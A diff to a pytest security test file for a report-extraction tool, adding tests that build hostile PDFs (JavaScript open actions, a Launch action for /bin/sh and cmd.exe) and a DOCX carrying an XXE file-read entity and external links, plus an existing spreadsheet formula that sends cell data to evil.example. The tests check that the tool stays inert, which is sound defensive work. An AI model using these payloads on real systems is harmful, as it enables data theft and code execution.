@@ -12,17 +12,24 @@ from __future__ import annotations
 import csv
 import os
 import re
+import sys
 from pathlib import Path
 
 import openpyxl
 import pytest
+from conftest import REPO
 from test_batch_fake import make_report
 
-from lkjip.corpus.batch import run_batch
-from lkjip.corpus.csv_export import csv_value
-from lkjip.corpus.safety import FORMULA_TRIGGERS, excel_safe, is_formula_like
-from lkjip.corpus.store import Store
-from lkjip.model import Flag, Report
+if str(REPO) not in sys.path:  # bench/ is a folder of the repository, not part of the installed package
+    sys.path.insert(0, str(REPO))
+
+from bench.fuzz import _FONT, pdf_stream, raw_pdf, run_file  # noqa: E402
+from lkjip.corpus.batch import run_batch  # noqa: E402
+from lkjip.corpus.csv_export import csv_value  # noqa: E402
+from lkjip.corpus.safety import FORMULA_TRIGGERS, excel_safe, is_formula_like  # noqa: E402
+from lkjip.corpus.store import Store  # noqa: E402
+from lkjip.extract.pipeline import extract_report  # noqa: E402
+from lkjip.model import Flag, Report  # noqa: E402
 
 FAKE = "test_batch_fake:json_extractor"
 FORMULA = '=HYPERLINK("http://evil.example/?d="&A1,"klik")'
@@ -176,3 +183,94 @@ def test_names_from_documents_never_become_paths(tmp_path):
     assert Path("/etc/passwd").stat().st_mtime == passwd_mtime and not Path("/tmp/lkjip-pwned").exists()
     html = (tmp_path / "out" / "report.html").read_text(encoding="utf-8")
     assert SCRIPT not in html
+
+
+# --- documents cannot reach the network, run code or read other files ----------------------------------
+
+
+@pytest.fixture
+def listener():
+    """A TCP server on 127.0.0.1 that every link in the hostile documents points at; it must stay silent."""
+    import socket
+
+    srv = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
+    srv.bind(("127.0.0.1", 0))
+    srv.listen(8)
+    srv.setblocking(False)
+    yield srv.getsockname()[1]
+
+    try:
+        conn, _ = srv.accept()
+    except BlockingIOError:
+        conn = None
+    srv.close()
+    assert conn is None, "a document made lkjip open a network connection"
+
+
+def test_pdfium_is_built_without_javascript_and_xfa():
+    import pypdfium2 as pdfium
+
+    flags = set(pdfium.PDFIUM_INFO.flags)
+    assert not flags & {"V8", "XFA"}
+
+
+def active_pdf(port: int) -> bytes:
+    """A one-page PDF whose open action, page action, link, form and remote go-to all point at ``port``."""
+    url = f"http://127.0.0.1:{port}".encode()
+    js = b"app.launchURL(\"" + url + b"/js\"); this.submitForm(\"" + url + b"/submit\");"
+    content = b"BT /F1 12 Tf 72 770 Td (LAPORAN KINERJA INSTANSI PEMERINTAH) Tj ET"
+    return raw_pdf([
+        b"<< /Type /Catalog /Pages 2 0 R /OpenAction 6 0 R /AA << /WC 8 0 R /WS 9 0 R >> "
+        b"/Names << /JavaScript << /Names [(x) 6 0 R] >> >> >>",
+        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
+        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources << /Font << /F1 5 0 R >> >> "
+        b"/Contents 4 0 R /Annots [7 0 R] /AA << /O 10 0 R >> >>",
+        pdf_stream(content), _FONT,
+        b"<< /S /JavaScript /JS (" + js.replace(b"(", b"\\(").replace(b")", b"\\)") + b") >>",
+        b"<< /Type /Annot /Subtype /Link /Rect [0 0 595 842] /A << /S /URI /URI (" + url + b"/uri) >> >>",
+        b"<< /S /Launch /F (/bin/sh) /Win << /F (cmd.exe) /P (/c calc) >> >>",
+        b"<< /S /SubmitForm /F << /FS /URL /F (" + url + b"/form) >> >>",
+        b"<< /S /GoToR /F << /FS /URL /F (" + url + b"/gotor) >> /D [0 /Fit] >>",
+    ])
+
+
+def test_active_pdf_content_is_inert(tmp_path, listener):
+    p = tmp_path / "aktif.pdf"
+    p.write_bytes(active_pdf(listener))
+    outcome, detail, _ = run_file(p, timeout=60, memory_mb=2048)  # the real worker, as in a batch
+    assert outcome in ("success", "partial", "failed:not_a_report"), detail
+
+
+def hostile_docx(src: Path, dst: Path, port: int, secret_file: Path) -> Path:
+    """The generated DOCX with external relationships and XML entities pointing at a file and ``port``."""
+    import zipfile
+
+    url = f"http://127.0.0.1:{port}"
+    with zipfile.ZipFile(src) as zin, zipfile.ZipFile(dst, "w", zipfile.ZIP_DEFLATED) as zout:
+        for info in zin.infolist():
+            data = zin.read(info.filename)
+            if info.filename == "word/document.xml":
+                head, sep, body = data.partition(b"?>")
+                doctype = (f'<!DOCTYPE w:document [<!ENTITY xf SYSTEM "file://{secret_file}">'
+                           f'<!ENTITY xn SYSTEM "{url}/xxe">]>').encode()
+                data = head + sep + doctype + body.replace(b"<w:t>", b"<w:t>&xf;&xn;", 1)
+            elif info.filename == "word/_rels/document.xml.rels":
+                data = data.replace(b"</Relationships>", (
+                    f'<Relationship Id="rIdX1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
+                    f'relationships/image" Target="{url}/image.png" TargetMode="External"/>'
+                    f'<Relationship Id="rIdX2" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
+                    f'relationships/hyperlink" Target="{url}/link" TargetMode="External"/>'
+                    '</Relationships>').encode())
+            zout.writestr(info, data)
+    return dst
+
+
+def test_docx_external_links_and_entities_are_not_followed(tmp_path, listener):
+    secret = tmp_path / "rahasia.txt"
+    secret.write_text("RAHASIA-7f3a-91c2")
+    src = Path(__file__).parent / "data" / "generated" / "gen-sukamaju-2022-bordered.docx"
+    p = hostile_docx(src, tmp_path / "xxe.docx", listener, secret)
+    outcome, detail, _ = run_file(p, timeout=60, memory_mb=2048)
+    assert outcome in ("success", "partial", "failed:input"), detail
+    report = extract_report(p)
+    assert "RAHASIA" not in report.model_dump_json()
